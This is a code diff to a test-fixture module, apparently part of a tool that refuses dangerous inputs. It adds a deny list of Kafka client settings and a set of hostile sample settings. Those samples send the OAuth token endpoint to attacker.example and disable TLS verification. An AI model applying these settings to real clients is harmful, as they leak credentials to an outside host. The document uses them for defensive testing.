@@ -12,7 +12,16 @@ from duebook.errors import Invalid
 from duebook.targets.programs import Chosen
 from duebook.targets.shell_words import refuse_shell_text
 
-__all__ = ["FLOWS", "HARMLESS_FLOWS", "HARMLESS_TEXTS", "TEXTS", "is_refused", "run"]
+__all__ = [
+    "FLOWS",
+    "HARMLESS_FLOWS",
+    "HARMLESS_TEXTS",
+    "HOSTILE_SETTINGS",
+    "REFUSED_SETTINGS",
+    "TEXTS",
+    "is_refused",
+    "run",
+]
 
 TEXTS: Final = (
     "$X",
@@ -221,6 +230,53 @@ HARMLESS_FLOWS: Final = (
     _STEP + "{call: other, params: {A: $X}}",
     _STEP + "{run: 'case $X in a) ./a;; *) ./b;; esac'}",
 )
+
+REFUSED_SETTINGS: Final = (
+    "plugin.library.paths",
+    "sasl.kerberos.kinit.cmd",
+    "sasl.kerberos.principal",
+    "sasl.kerberos.keytab",
+    "ssl.engine.location",
+    "ssl.providers",
+    "ssl.ca.location",
+    "ssl.key.location",
+    "ssl.certificate.location",
+    "ssl.keystore.location",
+    "ssl.crl.location",
+    "https.ca.location",
+    "sasl.oauthbearer.config",
+    "sasl.oauthbearer.assertion.private.key.file",
+    "sasl.oauthbearer.assertion.jwt.template.file",
+    "sasl.oauthbearer.metadata.authentication.type",
+    "enable.sasl.oauthbearer.unsecure.jwt",
+    "enable.idempotence",
+    "enable.gapless.guarantee",
+    "bootstrap.servers",
+    "metadata.broker.list",
+    "transactional.id",
+    "debug",
+    "log_level",
+    "statistics.interval.ms",
+    "test.mock.num.brokers",
+    "error_cb",
+    "oauth_cb",
+    "stats_cb",
+    "on_delivery",
+    "sasl.oauthbearer.method",
+    "sasl.mechanisms",
+    "security.protocol",
+    "sasl.oauthbearer.token.endpoint.url",
+)
+"""Settings of Kafka that are refused with the value x."""
+HOSTILE_SETTINGS: Final = {
+    "sasl.oauthbearer.token.endpoint.url": "https://attacker.example/token",
+    "security.protocol": "sasl_plaintext",
+    "sasl.mechanisms": "PLAIN",
+    "enable.ssl.certificate.verification": False,
+    "ssl.endpoint.identification.algorithm": "none",
+    "ssl.ca.pem": "attacker",
+}
+"""Settings that would send a kept secret elsewhere, or show it on the way."""
 
 
 def is_refused(text: str) -> bool:
